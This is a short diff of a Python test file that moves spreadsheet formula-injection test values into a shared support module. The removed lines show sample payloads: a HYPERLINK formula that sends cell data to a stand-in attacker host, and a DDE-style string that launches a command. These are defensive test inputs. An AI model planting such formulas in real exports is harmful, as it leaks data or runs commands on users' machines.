@@ -16,9 +16,9 @@ from judgewise.store.labels import HumanLabel
 from judgewise.store.opening import open_store
 
 from tests.support import run_cli
+from tests.support.bad_inputs.cases_labelling import FORMULA_NAMES, LINK
 
-LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-NAMES = [LINK, "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0", "\t=1+1", "plain"]
+NAMES = FORMULA_NAMES
 MODELS = [n for n in NAMES if n.isprintable()]  # readers refuse a model name holding a control character
 
 
